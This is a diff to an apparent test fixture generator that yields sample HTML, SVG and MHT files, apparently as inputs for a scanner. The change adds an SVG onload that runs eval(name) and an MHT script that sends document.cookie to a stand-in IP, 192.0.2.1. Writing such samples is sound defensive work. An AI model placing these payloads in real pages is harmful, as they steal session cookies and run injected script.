@@ -255,11 +255,12 @@ def _scripts() -> _Kinds:
 def _web() -> _Kinds:
     page = b"<!DOCTYPE html><html><body onload=\"eval(atob('MQ=='))\"><script>close()</script>"
     yield "html", _PAGE, page + b"</body></html>"
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="close()"><script>close()</script></svg>'
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="eval(name)"><a/></svg>'
     yield "svg", _PAGE, svg
     yield (
         "mht", _PAGE,
-        b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><script>close()</script>\r\n",
+        (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
+        b"<html><script>fetch('//192.0.2.1/'+document.cookie)</script>\r\n"),
     )  # fmt: skip
     yield (
         "xml-xxe", _XML,
